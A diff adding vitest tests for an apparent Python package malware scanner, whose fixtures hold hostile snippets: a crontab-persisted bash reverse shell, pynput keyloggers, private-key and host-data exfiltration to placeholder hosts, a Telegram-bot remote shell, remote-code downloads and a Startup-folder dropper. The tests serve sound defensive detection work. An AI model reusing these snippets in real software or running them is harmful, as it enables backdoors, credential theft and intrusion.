@@ -1,0 +1,213 @@
+import { describe, expect, it } from 'vitest';
+import { findingsOf, scanSdist } from './helpers.js';
+
+const SETUP = 'from setuptools import setup\nsetup(name="fixture-py", version="1.0.0")\n';
+
+describe('load-time calls: functions handed to threads, timers and atexit', () => {
+  const init = `import requests, threading\ndef init():\n    code = requests.get("https://pastebin.com/raw/abc").text\n    open("x.py", "w").write(code)\n`;
+
+  it('a thread started at import runs its target at import', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `${init}threading.Thread(target=init).start()\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-006')[0]?.context).toBe('import');
+    expect(r.verdict).toBe('malicious');
+  });
+
+  it('atexit.register and threading.Timer count too', async () => {
+    for (const start of ['import atexit\natexit.register(init)\n', 'threading.Timer(5, init).start()\n']) {
+      const r = await scanSdist({ 'pkg/__init__.py': `${init}${start}`, 'setup.py': SETUP });
+      expect(findingsOf(r, 'PY-006')[0]?.context).toBe('import');
+    }
+  });
+
+  it('a thread target inside a function nothing calls stays runtime', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `${init}def start():\n    threading.Thread(target=init).start()\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-006')).toHaveLength(0);
+    expect(r.verdict).not.toBe('malicious');
+  });
+});
+
+describe('taint: chat bot message handlers receive remote input (PY-010)', () => {
+  it('a Telegram handler that runs the message text is a remote shell', async () => {
+    const r = await scanSdist({
+      'pkg/bot.py': `import subprocess, telebot\nbot = telebot.TeleBot("1:x")\n@bot.message_handler(commands=["sh"])\ndef sh(message):\n    out = subprocess.run(message.text[4:], shell=True, capture_output=True)\n    bot.reply_to(message, out.stdout)\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-010')[0]?.severity).toBe('critical');
+  });
+
+  it('a python-telegram-bot CommandHandler callback counts too', async () => {
+    const r = await scanSdist({
+      'pkg/bot.py': `import os\nfrom telegram.ext import CommandHandler\ndef run(update, context):\n    os.system(update.message.text)\napp.add_handler(CommandHandler("run", run))\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-010')).toHaveLength(1);
+  });
+
+  it('a handler that runs a fixed command, or a non-bot decorator, is not', async () => {
+    const fixed = await scanSdist({
+      'pkg/bot.py': `import subprocess, telebot\nbot = telebot.TeleBot("1:x")\n@bot.message_handler(commands=["up"])\ndef up(message):\n    out = subprocess.run(["uptime"], capture_output=True)\n    bot.reply_to(message, out.stdout)\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(fixed, 'PY-010')).toHaveLength(0);
+    const click = await scanSdist({
+      'pkg/cli.py': `import subprocess, click\n@click.command()\ndef main(command):\n    subprocess.run(command, shell=True)\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(click, 'PY-010')).toHaveLength(0);
+  });
+});
+
+describe('PY-008: wallet secrets and hidden destinations', () => {
+  it('a prefixed private-key parameter sent to a server is a secret flow', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import requests, base64\ndef validate(from_private_key):\n    requests.post("https://api.example.invalid/v", json={"s": base64.b64encode(from_private_key.encode()).decode()})\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-008')[0]?.severity).toBe('critical');
+  });
+
+  it('a private-key-looking name that is only a flag or a count is not', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import requests\ndef send(n):\n    private_key_count = n\n    requests.post("https://api.example.invalid/v", json={"n": n})\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-008')).toHaveLength(0);
+  });
+
+  const send = (host: string) =>
+    `import os, json, base64\nfrom http.client import HTTPSConnection\ndef report(v):\n    c = HTTPSConnection(${host}, timeout=1)\n    c.request("POST", "/r", json.dumps({"n": os.getlogin(), "v": v}))\n`;
+
+  it('host data sent to an address decoded at run time is critical', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': send(
+        `base64.b64decode("${Buffer.from('collect.example.invalid').toString('base64')}").decode()`,
+      ),
+      'setup.py': SETUP,
+    });
+    const f = findingsOf(r, 'PY-008')[0];
+    expect(f?.severity).toBe('critical');
+    expect(f?.evidence?.hiddenDestination).toBe(true);
+  });
+
+  it('host data sent to a plain address stays high', async () => {
+    const r = await scanSdist({ 'pkg/__init__.py': send('"telemetry.example.invalid"'), 'setup.py': SETUP });
+    expect(findingsOf(r, 'PY-008')[0]?.severity).toBe('high');
+  });
+});
+
+describe('PY-012: keyboard hooks that keep the keys', () => {
+  const hook = (body: string) =>
+    `from pynput import keyboard\ndef pressed(key):\n${body}\ndef start():\n    with keyboard.Listener(on_press=pressed) as l:\n        l.join()\n`;
+
+  it('a handler writing every key to a file is a keylogger (critical)', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': hook('    f = open("k.txt", "a")\n    f.write(str(key))\n'),
+      'setup.py': SETUP,
+    });
+    const f = findingsOf(r, 'PY-012')[0];
+    expect(f?.severity).toBe('critical');
+    expect(f?.evidence?.recorded).toBe('recorded');
+    expect(r.verdict).not.toBe('clean');
+  });
+
+  it('a handler sending keys out is critical with high confidence', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import requests\n${hook('    requests.post("https://x.example.invalid", data={"k": str(key)})\n')}`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-012')[0]?.evidence?.recorded).toBe('sent');
+  });
+
+  it('a hotkey handler that only compares the key stays high', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': hook('    if key == keyboard.Key.esc:\n        return False\n'),
+      'setup.py': SETUP,
+    });
+    const f = findingsOf(r, 'PY-012')[0];
+    expect(f?.severity).toBe('high');
+    expect(f?.evidence?.recorded).toBeUndefined();
+  });
+});
+
+describe('PY-017: VCS install targets', () => {
+  it('pip install git+<computed> is an install from outside the index', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import subprocess\ndef install(repo):\n    subprocess.run(["pip", "install", f"git+{repo}"])\ninstall(REPO)\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-017')[0]?.severity).toBe('high');
+  });
+
+  it('pip install of a named package stays medium', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import subprocess\nsubprocess.run(["pip", "install", "gitpython"])\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-017')[0]?.severity).toBe('medium');
+  });
+});
+
+describe('PY-004: commands on lines that do not parse (text fallback)', () => {
+  it('a reverse shell in a broken os.system line is read as text', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `def f():\n    return 1\n__import__("os").system("(crontab -l ; echo "*/5 * * * * bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'") | crontab -")\n`,
+      'setup.py': SETUP,
+    });
+    const f = findingsOf(r, 'PY-004').find((x) => x.evidence?.textFallback);
+    expect(f?.severity).toBe('critical');
+    expect(f?.category).toBe('backdoor');
+  });
+
+  it('an ordinary command on a broken line adds nothing', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `def f(:\n    os.system("make -C "build" all")\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-004').filter((x) => x.evidence?.textFallback)).toHaveLength(0);
+  });
+});
+
+describe('PY-005: downloads dropped into an autostart folder', () => {
+  it('a response written into the Startup folder runs at logon (critical)', async () => {
+    const r = await scanSdist({
+      'pkg/dl.py': `import os, requests\ndef fetch(url, name):\n    folder = os.path.expanduser('~\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup')\n    p = os.path.join(folder, name)\n    r = requests.get(url)\n    with open(p, 'wb') as out:\n        out.write(r.content)\n`,
+      'setup.py': SETUP,
+    });
+    const f = findingsOf(r, 'PY-005')[0];
+    expect(f?.severity).toBe('critical');
+    expect(f?.message).toMatch(/autostart/);
+  });
+
+  it('a response written to a data folder is not a dropper', async () => {
+    const r = await scanSdist({
+      'pkg/dl.py': `import os, requests\ndef fetch(url, name):\n    folder = os.path.expanduser('~/.cache/pkg')\n    p = os.path.join(folder, name)\n    r = requests.get(url)\n    with open(p, 'wb') as out:\n        out.write(r.content)\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-005')).toHaveLength(0);
+  });
+});
+
+describe('PY-020: hidden processes started at import', () => {
+  const code = `import subprocess, sys\nsubprocess.Popen([sys.executable, "w.py"], creationflags=subprocess.DETACHED_PROCESS, stdout=subprocess.DEVNULL)\n`;
+
+  it('is high when it starts while the package is imported', async () => {
+    const r = await scanSdist({ 'pkg/__init__.py': code, 'setup.py': SETUP });
+    const f = findingsOf(r, 'PY-020')[0];
+    expect(f?.severity).toBe('high');
+    expect(f?.message).toMatch(/imported/);
+  });
+
+  it('stays medium in a function run on request', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import subprocess, sys\ndef daemon():\n    ${code.split('\n')[1]}\n`,
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-020')[0]?.severity).toBe('medium');
+  });
+});
